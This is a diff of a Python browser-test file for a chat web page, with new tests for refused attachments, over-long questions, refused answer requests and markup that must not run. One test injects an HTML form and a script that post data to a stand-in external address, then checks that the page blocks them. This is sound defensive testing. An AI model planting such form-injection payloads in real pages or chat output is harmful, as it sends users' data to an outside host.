@@ -343,7 +343,11 @@ def test_bad_pictures_are_refused_and_the_chat_goes_on(tab, script, tmp_path):
         tab.send("And this?")
         tab.page.locator(".toast-body", has_text=name).wait_for()
         assert tab.box.input_value() == "And this?"
-        tab.detach()
+        tab.wait_until(lambda: tab.attached() == 0)  # it leaves the box, the question stays
+    tab.attach(ONE, tmp_path / "broken.png")
+    tab.send("And these?")
+    tab.wait_until(lambda: tab.attached() == 1)
+    tab.detach()
     assert tab.questions() == ["Here?"]
     script.say("Good.")
     assert tab.ask("Without?") == "Good."
@@ -453,6 +457,43 @@ def test_markdown_code_and_maths_are_rendered_and_html_does_not_run(tab, script)
     tab.page.evaluate(LATER_PICTURE)
     assert tab.page.evaluate("window.hacked") is None
     assert tab.foreign == []  # the far picture, too: the policy of the page forbids it
+
+
+def test_form_in_a_message_posts_nowhere(tab, script):
+    script.say("<form action='http://192.0.2.1/take' method='post'><input name='a' value='b'><button>More</button></form>Done.")
+    tab.ask("A form?")
+    before = tab.page.url
+    tab.page.evaluate("""() => {
+        const form = document.querySelector('#chat form') ?? document.body.appendChild(document.createElement('form'));
+        form.action = 'http://192.0.2.1/take';
+        form.method = 'post';
+        form.submit();
+    }""")
+    tab.page.evaluate(LATER_PICTURE)
+    assert (tab.page.url, tab.foreign) == (before, [])
+
+
+def test_question_of_endless_length_stays_in_the_box(tab, script):
+    tab.send("a" * 100_001)
+    tab.page.locator(".toast-body", has_text="at most 100000").wait_for()
+    assert len(tab.box.input_value()) == 100_001
+    tab.box.fill("")
+    script.say("Yes.")
+    assert tab.ask("Short?") == "Yes."
+
+
+def test_refused_request_leaves_the_chat_usable(chat_page, script):
+    """What writes the answer is a request of its own: if that one is refused, the next question is answered all the same."""
+    from demo.session import Session
+
+    session = Session()
+    chat_page.ask({"text": "One?", "files": []}, session)
+    assert chat_page.settle(session)["submit_btn"] is True
+    chat_page.ask({"text": "Two?", "files": []}, session)
+    script.say("Yes.")
+    list(chat_page.write(session, True, 1.0, 1.0, 50, 1.0, 8))
+    assert [turn.answer for turn in session.turns] == ["", "Yes."]
+    assert "submit_btn" not in chat_page.settle(session)
 
 
 # The pictures that were there before have failed by then.
